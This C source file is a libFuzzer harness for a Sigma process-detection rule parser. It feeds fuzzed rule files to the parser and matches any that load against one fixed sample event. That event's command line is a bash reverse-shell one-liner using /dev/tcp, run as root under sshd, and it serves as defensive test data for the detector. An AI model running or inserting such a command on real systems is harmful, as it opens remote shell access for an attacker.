/*
 * fuzz_sigma: the Sigma process rule parser and matcher.  Inputs are rule
 * files; rules that load are matched against a fixed process.
 */
#include <stdint.h>
#include <string.h>

#include "sigma/sigma.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

int
LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static const struct sigma_event ev = {{"/usr/bin/bash", "bash -c 'sh -i >& /dev/tcp/1/2'",
					       "/usr/sbin/sshd", "sshd: root@pts/0", "root",
					       "/root"}};
	struct sigma_set *s = NULL;
	struct ward_diag d;
	size_t i;

	if (sigma_set_new(&s) != 0)
		return 0;
	if (sigma_set_add(s, "fuzz.yml", (const char *)data, size, &d) == 0)
		for (i = 0; i < sigma_set_count(s); i++)
			(void)sigma_match(s, i, &ev);
	sigma_set_free(s);
	return 0;
}
